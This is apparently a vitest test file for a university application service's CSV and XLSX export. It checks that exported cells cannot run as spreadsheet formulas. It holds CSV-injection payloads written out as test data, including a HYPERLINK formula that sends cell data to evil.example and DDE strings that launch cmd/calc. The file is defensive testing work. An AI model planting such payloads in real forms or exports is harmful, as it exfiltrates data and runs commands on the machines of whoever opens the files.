import { applicationStatuses } from '@narkhoz/contract/admin/applications.ts'
import type { Form } from '@narkhoz/contract/forms/form.ts'
import { forms } from '@narkhoz/contract/forms/registry.ts'
import { sql } from 'drizzle-orm'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { type Applicant, applicantAt } from '../testing/applicant.ts'
import { formulas as formulasIn } from '../testing/spreadsheet-cells.ts'
import { type Browser, type Colleague, colleagueAt, firstAdministratorAt } from '../testing/staff-client.ts'
import { startService } from '../testing/test-service.ts'
import { unzipped } from '../testing/unzipped.ts'

let service: Awaited<ReturnType<typeof startService>>
let applicant: Applicant
let administrator: Browser
let staff: Colleague

const formulas = [
  '=HYPERLINK("https://evil.example?"&A1,"x")',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd|x',
  '@SUM(1+1)*cmd|x',
  '＝1+1',
  '  =1+1',
  '\u200b=1+1',
]

beforeAll(async () => {
  service = await startService()
  applicant = await applicantAt(service)
  administrator = await firstAdministratorAt(service)
  staff = await colleagueAt(service, administrator, { role: 'staff', forms: ['consultation'] })
  const payload = await applicant.payload(forms.consultation)
  for (const formula of formulas) {
    const { status, body } = await applicant.send(forms.consultation, {
      ...payload,
      message: `${formula}\nекінші жол; "тырнақша", үтір`,
      tags: { UTM_SOURCE: formula.trim().replaceAll(/\p{C}/gu, '') },
    })
    expect([status, body.error?.fields]).toEqual([201, undefined])
  }
  await applicant.send(forms.vacancy, await applicant.payload(forms.vacancy))
})
afterAll(() => service.stop())

const download = (who: Browser, query: string) => who.send('GET', `applications/export?${query}`)

/** Reads CSV as RFC 4180 says. */
const cellsIn = (csv: string) => {
  const rows: string[][] = [[]]
  for (const [, quoted, plain, end] of csv.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)) {
    rows.at(-1)?.push(quoted === undefined ? (plain ?? '') : quoted.replaceAll('""', '"'))
    if (end === '\r\n') rows.push([])
    if (end === '') break
  }
  return rows.slice(0, -1)
}

/** The cells of the one sheet of an XLSX file, and whether there is a formula in it. */
const sheetIn = (bytes: ArrayBuffer) => {
  const files = unzipped(new Uint8Array(bytes))
  const of = (name: string) => files[name] ?? ''
  const plain = (xml: string) =>
    xml.replaceAll('&lt;', '<').replaceAll('&gt;', '>').replaceAll('&quot;', '"').replaceAll('&apos;', "'").replaceAll('&amp;', '&')
  const shared = [...of('xl/sharedStrings.xml').matchAll(/<si>.*?<t[^>]*>(.*?)<\/t>.*?<\/si>/gs)].map(([, text]) => plain(text ?? ''))
  const sheet = of('xl/worksheets/sheet1.xml')
  const rows = [...sheet.matchAll(/<row [^>]*>(.*?)<\/row>/gs)].map(([, row]) =>
    [...(row ?? '').matchAll(/<c [^>]*t="s"[^>]*><v>(\d+)<\/v><\/c>/g)].map(([, at]) => shared[Number(at)] ?? ''),
  )
  // Excel keeps a cell of this format as text when it is edited.
  const isText = of('xl/styles.xml').includes('formatCode="@"') && !/<c (?![^>]* s="[12]")/.test(sheet)
  return { rows, hasFormula: /<f[ >]/.test(sheet), isText, names: Object.keys(files) }
}

const isHarmless = (cell: string) => !/^[\p{C}\p{Z}]*[=+\-@＝＋－＠]/u.test(cell)

test('CSV has a row an application under headings in the reader’s language, and opens as a table', async () => {
  const answer = await download(staff, 'format=csv&lang=en&form=consultation')
  expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8')
  expect(answer.headers.get('content-disposition')).toMatch(/^attachment; filename="applications-\d{4}-\d\d-\d\d\.csv"$/)
  const bytes = new Uint8Array(await answer.arrayBuffer())
  expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
  const [header, ...rows] = cellsIn(new TextDecoder().decode(bytes))
  const fields = (forms.consultation as Form).fields.map(({ field }) => field.label.en)
  expect(header?.slice(0, 8)).toEqual(['Code', 'Form', 'Sent', 'Status', 'Assignee', 'Due', 'Answered', 'Language'])
  expect(header).toEqual(expect.arrayContaining([...fields, 'UTM_SOURCE', 'Page']))
  expect(rows).toHaveLength(formulas.length)
  for (const row of rows) {
    expect(row).toHaveLength(header?.length ?? 0)
    expect(row[0]).toMatch(/^[0-9A-Z]{4}-[0-9A-Z]{4}$/)
    expect(row.slice(1, 4)).toEqual([forms.consultation.title.en, expect.any(String), applicationStatuses.received.en])
  }
  const at = header?.indexOf('UTM_SOURCE') ?? -1
  expect(rows.map((row) => row[at]).toReversed()).toEqual(formulas.map((formula) => `'${formula.trim().replaceAll(/\p{C}/gu, '')}`))
  const message = header?.indexOf(forms.consultation.fields.find(({ field }) => field.name === 'message')?.field.label.en ?? '') ?? -1
  expect(rows.at(-1)?.[message]).toBe(`'${formulas[0]}\nекінші жол; "тырнақша", үтір`)
})

test('no cell of CSV can be taken for a formula, and every cell of XLSX says that it is a text', async () => {
  for (const query of ['', '&form=consultation']) {
    const csv = cellsIn((await (await download(administrator, `format=csv${query}`)).text()).replace(/^\uFEFF/, ''))
    expect(csv.flat().filter((cell) => !isHarmless(cell))).toEqual([])
    const answer = await download(administrator, `format=xlsx${query}`)
    expect(answer.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet')
    const { rows, hasFormula, isText, names } = sheetIn(await answer.arrayBuffer())
    expect(names).toEqual(expect.arrayContaining(['[Content_Types].xml', 'xl/workbook.xml', 'xl/worksheets/sheet1.xml']))
    expect([hasFormula, isText]).toEqual([false, true])
    expect(csv.flat().filter((cell) => cell.startsWith("'")).length).toBeGreaterThanOrEqual(formulas.length)
    // The two say the same, but for the mark that only CSV needs. Only cells of texts were read.
    expect(rows.map((row) => row.filter(Boolean))).toEqual(csv.map((row) => row.filter(Boolean).map((cell) => cell.replace(/^'/, ''))))
  }
})

test('no text begins a formula for a reader with another separator', async () => {
  const payload = await applicant.payload(forms.consultation)
  for (const message of ["Ann;=cmd|' /C calc'!A0;", "Hello\n=cmd|' /C calc'!A0\nthank you", 'a,"+1+1', 'a;\u200b"＝1+1', 'a\t@SUM(1)'])
    expect((await applicant.send(forms.consultation, { ...payload, message, tags: { UTM_SOURCE: 'sent-later' } })).status).toBe(201)
  const csv = (await (await download(administrator, 'format=csv')).text()).replace(/^\uFEFF/, '')
  expect(csv).toContain("Ann;'=cmd")
  expect(formulasIn(csv)).toEqual([])
  await service.storage.db.execute(sql`delete from applications where payload -> 'tags' ->> 'UTM_SOURCE' = 'sent-later'`)
})

test('the filters of the inbox are those of the export', async () => {
  const codes = async (who: Browser, query: string) =>
    cellsIn(await (await download(who, `format=csv&${query}`)).text())
      .slice(1)
      .map(([code]) => code)
  expect(await codes(administrator, '')).toHaveLength(formulas.length + 1)
  expect(await codes(staff, '')).toHaveLength(formulas.length)
  expect(await codes(administrator, 'form=vacancy')).toHaveLength(1)
  expect(await codes(administrator, 'status=spam')).toEqual([])
  const [first = ''] = await codes(staff, '')
  expect(await codes(staff, `q=${first}`)).toEqual([first])
})

test('signs that no file of this kind can hold are left out', async () => {
  await service.storage.db.execute(
    sql`update applications set payload = jsonb_set(payload, '{student_id}', to_jsonb(${'a\u0001b\uFFFEc\u000Bd'}::text)) where form = 'vacancy'`,
  )
  for (const format of ['csv', 'xlsx']) {
    const answer = await download(administrator, `format=${format}&form=vacancy`)
    const cells = format === 'csv' ? cellsIn(await answer.text()).flat() : sheetIn(await answer.arrayBuffer()).rows.flat()
    expect(cells).toContain('abcd')
  }
})

test('too many rows for XLSX are refused with that reason, and CSV has them all', { timeout: 300_000 }, async () => {
  await service.storage.db.execute(sql`
    insert into applications (code, form, lang, payload, fingerprint)
    select 'X' || n, 'vacancy', 'kz', '{"student_id":"x"}', 'x' from generate_series(1, 10001) n`)
  const refused = await download(administrator, 'format=xlsx&form=vacancy&lang=en')
  expect(refused.status).toBe(422)
  expect(refused.headers.get('content-type')).toContain('application/json')
  expect(await refused.json()).toMatchObject({ error: { code: 'export_too_long' } })
  const csv = await (await download(administrator, 'format=csv&form=vacancy')).text()
  expect(csv.trim().split('\r\n')).toHaveLength(10_001 + 1 + 1)
})

test('an export needs all its parameters', async () => {
  for (const query of ['', 'format=pdf', 'format=csv&form=x', 'format=csv&page=1'])
    expect((await download(administrator, query)).status, query).toBe(400)
  const editor = await colleagueAt(service, administrator, { role: 'editor' })
  expect((await download(editor, 'format=csv')).status).toBe(403)
})
